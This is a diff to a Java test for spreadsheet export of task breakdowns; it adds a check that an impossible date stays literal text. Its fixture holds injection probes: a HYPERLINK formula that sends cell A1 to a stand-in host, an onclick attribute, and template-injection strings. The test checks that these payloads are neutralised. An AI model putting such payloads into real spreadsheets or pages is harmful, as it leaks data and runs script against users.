@@ -79,7 +79,8 @@ class OfficeFilesTest {
         String number = journey.confirmed()
                 .complete("breakDownTasks", "workItems", Inputs.json("""
                         [{"name":"=HYPERLINK(\\"http://example.org/\\"&A1,\\"点击\\")","owner":"execution-team","plannedStart":"%1$s","plannedEnd":"%1$s",
-                          "deliverable":"<b onclick='x'>粗</b> & {{title}} ${7*7}","remarks":"+1+1"}]
+                          "deliverable":"<b onclick='x'>粗</b> & {{title}} ${7*7}","remarks":"+1+1"},
+                         {"name":"2026-02-30","owner":"execution-team","plannedStart":"%1$s","plannedEnd":"%1$s","deliverable":"粗"}]
                         """.formatted(inputs.today())))
                 .number();
         var document = documents.latest(number, "task-breakdown").orElseThrow();
@@ -95,6 +96,7 @@ class OfficeFilesTest {
             assertThat(row.getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(inputs.today());
             assertThat(row.getCell(7).getStringCellValue()).isEqualTo(MARKUP);
             assertThat(row.getCell(8).getCellStyle().getQuotePrefixed()).isTrue();
+            assertThat(sheet.getRow(5).getCell(1).getStringCellValue()).isEqualTo("2026-02-30");
             assertThat(sheet.getRow(3))
                     .extracting(Cell::getStringCellValue)
                     .containsExactly("需求编号", "任务名称", "负责人", "计划开始日期", "计划完成日期", "实际完成日期", "进度状态", "交付物", "备注");
